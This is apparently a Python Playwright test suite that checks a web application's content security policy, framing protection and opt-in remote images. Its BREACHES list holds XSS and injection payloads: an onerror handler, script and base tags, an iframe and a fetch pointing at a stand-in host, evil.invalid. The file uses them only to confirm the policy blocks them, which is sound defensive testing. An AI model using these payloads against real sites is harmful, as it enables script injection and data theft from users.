"""The content security policy: no page needs more than it allows, and it holds."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, expect

from tests.e2e.conftest import Open
from tests.e2e.test_for_everyone import settle, visit_every_page
from tests.e2e.test_knowledge_graph import open_map
from tests.integration.server import ForkedServer, Server, run_apart

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000"
    "0500017b0a2e4f0000000049454e44ae426082"
)

ADDED = "document.head.appendChild(document.createElement('script'))"


def violations(page: Page) -> list[str]:
    """Return a list that every breach from now on is added to."""
    found: list[str] = []
    page.on("console", lambda message: found.append(message.text) if "Content Security" in message.text else None)
    return found


def draw(route: Route) -> None:
    route.fulfill(body=PIXEL, content_type="image/png")


def test_no_page_breaks_it(open_page: Open, server: Server) -> None:
    page = open_page("/")
    found = violations(page)
    for path in [*visit_every_page(page, server).values(), "/map?view=list", "/progress"]:
        page.goto(path)
        settle(page)
    open_map(page)
    page.get_by_role("application").focus()
    page.keyboard.press("ArrowRight")
    page.emulate_media(color_scheme="light")
    settle(page)
    assert found == []


BREACHES = [
    f"{ADDED}.textContent = 'window.hit = 1'",
    f"{ADDED}.src = 'https://evil.invalid/x.js'",
    "document.body.innerHTML = '<img src=x onerror=\"window.hit = 1\">'",
    "document.body.innerHTML = '<p style=\"display: none\">hidden</p>'",
    "document.body.innerHTML = '<img src=\"https://evil.invalid/pixel.png\">'",
    "document.body.innerHTML = '<iframe src=\"https://evil.invalid/\"></iframe>'",
    "document.head.innerHTML += '<base href=\"https://evil.invalid/\">'",
    "fetch('https://evil.invalid/').catch(() => {})",
]


def test_what_breaks_it_does_nothing(open_page: Open) -> None:
    page = open_page("/")
    found = violations(page)
    for breach in BREACHES:
        page.goto("/")
        settle(page)
        found.clear()
        page.evaluate(f"() => {{ {breach} }}")
        page.wait_for_timeout(100)
        assert found, breach
        assert page.evaluate("window.hit") is None, breach


def test_nobody_may_frame_it(open_page: Open, server: Server) -> None:
    page = open_page("/")
    page.set_content(f'<iframe src="{server.url}/"></iframe>')
    [frame] = page.main_frame.child_frames
    frame.wait_for_url("chrome-error://**")


@pytest.fixture
def data_dir_with_picture(data_dir: Path, tmp_path: Path) -> Path:
    (tmp_path / "picture.md").write_text(
        "---\ntitle: Pictured\ntags: [pictured]\n---\n## Here\n\nWords and ![drawn](https://pictures.invalid/one.png)\n"
    )
    assert run_apart("import", str(tmp_path / "picture.md"), data_dir=data_dir).returncode == 0
    return data_dir


@pytest.fixture
def server_with_pictures(data_dir_with_picture: Path) -> Iterator[Server]:
    with ForkedServer(data_dir_with_picture, INTERVIEW_SIMULATOR_REMOTE_IMAGES="true") as server:
        yield server


def test_pictures_from_elsewhere_are_shown_to_whom_asks_for_them(open_page: Open, server_with_pictures: Server) -> None:
    page = open_page("/")
    found = violations(page)
    page.route("https://pictures.invalid/**", draw)
    page.goto(f"{server_with_pictures.url}/?tag=pictured")
    page.get_by_role("link", name="Pictured").click()
    picture = page.get_by_role("img", name="drawn")
    expect(picture).to_be_visible()
    expect(picture).to_have_js_property("naturalWidth", 1)
    assert found == []
